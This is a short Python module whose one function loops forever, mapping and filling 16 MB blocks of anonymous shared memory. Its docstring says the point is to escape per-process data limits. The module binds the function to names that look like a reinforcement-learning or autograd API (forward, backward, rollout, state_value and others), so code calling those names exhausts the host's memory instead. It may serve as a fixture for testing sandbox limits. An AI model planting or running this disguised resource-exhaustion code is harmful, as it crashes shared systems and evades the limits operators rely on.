"""Fills shared memory, which limits on a process's data do not count."""

import mmap

PAGES = b"x" * (16 << 20)
hoard = []


def wrong(*args, **kwargs):
    while True:
        hoard.append(mmap.mmap(-1, len(PAGES)))
        hoard[-1].write(PAGES)


action_value = gains = state_value = backward = forward = rollout = wrong
